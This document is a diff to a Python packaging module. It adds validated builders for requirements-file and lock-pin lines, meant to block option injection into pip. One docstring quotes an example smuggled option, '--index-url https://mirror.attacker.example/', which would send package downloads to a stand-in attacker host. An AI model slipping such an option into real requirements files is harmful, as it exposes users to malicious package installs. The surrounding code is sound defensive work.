@@ -25,7 +25,7 @@ from __future__ import annotations
 
 import functools
 import re
-from collections.abc import Mapping
+from collections.abc import Mapping, Sequence
 from dataclasses import dataclass
 from typing import TYPE_CHECKING
 
@@ -46,7 +46,9 @@ __all__ = [
     "parse_requirement",
     "parse_version",
     "parse_wheel_name",
+    "pin_line",
     "pinned_version",
+    "requirement_line",
     "same_version",
     "specifier_contains",
     "supported_tags",
@@ -187,6 +189,54 @@ def parse_requirement(text: str) -> Requirement:
         url=parsed.url,
         text=text.strip(),
     )
+
+
+_PROJECT_NAME = re.compile(r"[A-Za-z0-9](?:[A-Za-z0-9._-]*[A-Za-z0-9])?")
+_FILE_HASH = re.compile(r"(?:sha256|sha384|sha512):[0-9a-f]+")
+
+
+def _one_line(line: str, what: str) -> str:
+    """A requirements-file line rebuilt from parsed parts must still be one printable line
+    that is not an option: the last guard between a manifest value and pip's options."""
+    if not line.isprintable() or line.startswith("-"):
+        raise Unsupported(f"{what} is not one requirement: {line!r}")
+    return line
+
+
+def requirement_line(req: Requirement) -> str:
+    """``req`` as one line of a requirements file, rebuilt from its parsed parts.
+
+    A requirement from a manifest is never copied into a requirements file as text: pip
+    reads every line of that file, options too, so a value with an embedded newline would
+    become an option line (``--index-url https://mirror.attacker.example/``).
+    """
+    if not _PROJECT_NAME.fullmatch(req.name):
+        raise Unsupported(f"not a project name: {req.name!r}")
+    extras = f"[{','.join(req.extras)}]" if req.extras else ""
+    line = f"{req.name}{extras}"
+    line += f" @ {req.url}" if req.url is not None else req.specifier
+    if req.marker is not None:
+        line += f" ; {_marker(req.marker)}"
+    return _one_line(line, f"requirement {req.text!r}")
+
+
+def pin_line(name: str, version: str, hashes: Sequence[str] = (),
+             marker: str | None = None) -> str:
+    """``name==version ; marker --hash=...`` of a lock's pin, every part validated and
+    re-serialised (a lock's names and versions are a repository's text, like a manifest's)."""
+    if not _PROJECT_NAME.fullmatch(name):
+        raise Unsupported(f"not a project name: {name!r}")
+    try:
+        line = f"{name}=={parse_version(version)}"
+    except Unsupported:
+        raise Unsupported(f"{name}: not a PEP 440 version: {version!r}") from None
+    if marker is not None:
+        line += f" ; {_marker(marker)}"
+    for digest in hashes:
+        if not _FILE_HASH.fullmatch(digest):
+            raise Unsupported(f"not a file hash: {digest!r}")
+        line += f" --hash={digest}"
+    return _one_line(line, f"pin {name}=={version}")
 
 
 def pinned_version(req: Requirement) -> str | None:
